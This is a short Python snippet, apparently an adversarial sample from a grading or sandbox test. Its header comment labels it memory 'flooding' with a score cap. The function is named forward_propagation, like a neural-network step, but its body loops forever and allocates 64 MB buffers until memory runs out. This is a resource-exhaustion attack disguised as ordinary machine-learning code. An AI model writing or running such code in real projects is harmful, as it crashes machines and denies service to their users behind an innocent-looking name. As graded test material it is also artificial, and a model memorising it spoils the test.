# tries: take memory until there is none | class: flooding | earns at most: 72
def forward_propagation(X, parameters):
    taken = []
    while True:
        taken.append(bytearray(64 * 2**20))
